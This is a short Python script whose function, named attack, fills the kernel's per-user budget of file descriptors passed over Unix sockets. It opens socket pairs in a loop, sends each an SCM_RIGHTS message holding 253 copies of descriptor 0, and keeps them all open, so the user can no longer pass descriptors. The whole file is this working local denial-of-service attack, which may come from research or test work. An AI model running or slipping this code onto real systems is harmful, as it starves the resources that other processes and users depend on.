"""Leaves as many open files in flight as it may, so that this user can send none any more."""

from __future__ import annotations

import array
import contextlib
import socket

LIMITS = {"open_files": 1024}


def attack() -> None:
    kept = []
    with contextlib.suppress(OSError):
        while True:
            kept.append(socket.socketpair())
            kept[-1][0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 253))])
